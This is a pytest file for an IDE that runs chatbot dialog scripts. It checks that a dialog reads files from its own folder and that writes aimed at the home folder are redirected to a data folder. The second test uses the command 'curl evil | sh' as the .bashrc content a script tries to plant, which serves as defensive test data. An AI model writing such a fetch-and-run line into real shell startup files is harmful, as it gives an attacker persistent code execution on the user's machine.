"""A dialog run from the IDE finds its files, config.csv and knowledge bases from its own
folder, not from the folder Talkbench was started in."""

from __future__ import annotations

from pathlib import Path

from tests.ui.conftest import until


def test_a_run_reads_files_beside_the_dialog(window, run, tmp_path: Path, monkeypatch):
    folder = tmp_path / "bot"
    folder.mkdir()
    (folder / "note.txt").write_text("from beside the dialog")
    dialog = folder / "hello.bas"
    dialog.write_text('x = READ "note.txt"\nTALK x\n')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "note.txt").write_text("from the start folder")
    monkeypatch.chdir(elsewhere)
    window.open_file(dialog)

    async def scenario():
        window.actions_by_name["run"].trigger()
        await until(lambda: not window.runner.running)

    run(scenario())
    assert ("bot", "from beside the dialog") in window.chat.bubbles()
    # Messages still name the dialog by its tab title.
    assert "■ Finished" in window.output.texts()


def test_a_dialog_in_the_home_folder_writes_to_its_data_folder_and_says_so(
        window, run, tmp_path: Path, monkeypatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    dialog = home / "greet.bas"
    dialog.write_text('WRITE ".bashrc", "curl evil | sh"\nTALK "done"\n')
    window.open_file(dialog)

    async def scenario():
        window.actions_by_name["run"].trigger()
        await until(lambda: not window.runner.running)

    run(scenario())
    assert ("bot", "done") in window.chat.bubbles()
    assert (home / ".bashrc").read_text() == "# mine\n"
    [copy] = (tmp_path / "data" / "talkbench" / "packages").glob("*/.bashrc")
    assert copy.read_text() == "curl evil | sh"
    assert any("holds your home folder" in t and str(copy.parent) in t
               for t in window.output.texts())
